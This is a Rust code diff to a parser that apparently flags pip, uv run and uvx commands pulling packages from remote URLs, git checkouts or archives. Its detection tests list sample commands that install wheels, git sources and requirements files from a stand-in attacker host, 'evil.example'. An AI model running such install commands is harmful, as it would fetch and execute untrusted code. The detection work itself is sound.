@@ -129,8 +129,8 @@ impl<'a> Words<'a> {
             if matches!(self.program(), Some(("pip", _))) { &SOURCES[..] } else { &SOURCES[..SOURCES.len() - 1] };
         let named = |word: &&&str| Word::new(word).is_long(sources) || Word::new(word).is_short("if");
         match kind {
-            Kind::Index => words.iter().find(|word| named(word) || is_remote(word) || is_archive(word)).copied(),
-            Kind::Lock(LockFile::Uv) => words.iter().find(|word| named(word)).copied(),
+            // Of a lock, what `uv run` adds to it, into an environment that nobody looks into afterwards.
+            Kind::Index | Kind::Lock(LockFile::Uv) => words.iter().find(|word| named(word) || is_place(word)).copied(),
             _ => None,
         }
     }
@@ -163,6 +163,15 @@ impl<'a> Words<'a> {
             _ => {}
         }
         files
+    }
+
+    /// Files of what `uv run` adds to a lock. uv takes no option that is cut short.
+    pub(super) fn added_files(&self) -> Vec<&str> {
+        let words = self.own();
+        let named = words.iter().enumerate();
+        let added = named.filter(|(_, word)| matches!(Word::new(word), Word::Long { name: "--with-requirements", .. }));
+        let values = added.filter_map(|(at, word)| Word::new(word).value().or_else(|| words.get(at + 1).copied()));
+        values.flat_map(|files| files.split(',')).collect()
     }
 
     /// What an index is asked for by name, in words and in files: requirements, as written.
@@ -212,6 +221,12 @@ impl<'a> Words<'a> {
     pub(super) fn targets(&self) -> Vec<&str> {
         options::values(&self.0, "pt", &["--python", "--target", "--prefix", "--root"])
     }
+}
+
+/// Whether what a word says, or the option in it is given, names a place that is no index. uv takes several with commas.
+pub(super) fn is_place(word: &str) -> bool {
+    let said = Word::new(word).value().unwrap_or(word);
+    said.split(',').map(str::trim).any(|one| is_remote(one) || is_archive(one))
 }
 
 /// A file or checkout that no index is asked for.
@@ -287,6 +302,14 @@ mod tests {
             "uv --config-file evil.toml pip install x",
             "uv pip install --torch-backend=cpu torch",
             "uv run --default-index https://evil.example --with x pytest",
+            "uv run --with https://evil.example/x-1-py3-none-any.whl pytest",
+            "uv run --with=six,x@https://evil.example/x-1-py3-none-any.whl pytest",
+            "uv run -wgit+https://evil.example/x pytest",
+            "uvx --with=https://evil.example/x-1-py3-none-any.whl ruff",
+            "uvx --from=git+https://evil.example/ruff ruff",
+            "pip install -e=git+https://evil.example/x",
+            "pip install --requirement=https://evil.example/r.txt",
+            "pip install -rhttps://evil.example/r.txt",
         ] {
             assert!(Words::new(&words(line)).second_source().is_some(), "{line}");
         }
@@ -297,6 +320,7 @@ mod tests {
             "make -f Makefile",
             "uv run make -f x",
             "uv run --isolated x",
+            "uv run --with six,idna --with=./folder pytest https://host.example/x.whl",
         ] {
             assert_eq!(Words::new(&words(line)).second_source(), None, "{line}");
         }
@@ -311,6 +335,14 @@ mod tests {
         for line in ["uv pip sync -q a.txt", "pip-sync a.txt", "pip install -qra.txt", "pip install --req a.txt x"] {
             assert_eq!(Words::new(&super::tests::words(line)).requirement_files(), ["a.txt"], "{line}");
         }
+    }
+
+    #[test]
+    fn files_of_what_is_added_to_a_lock_are_found() {
+        let line = words(
+            "uv run --with six --with-requirements a.txt,b.txt --with-requirements=c.txt pytest --with-requirements x",
+        );
+        assert_eq!(Words::new(&line).added_files(), ["a.txt", "b.txt", "c.txt"]);
     }
 
     #[test]
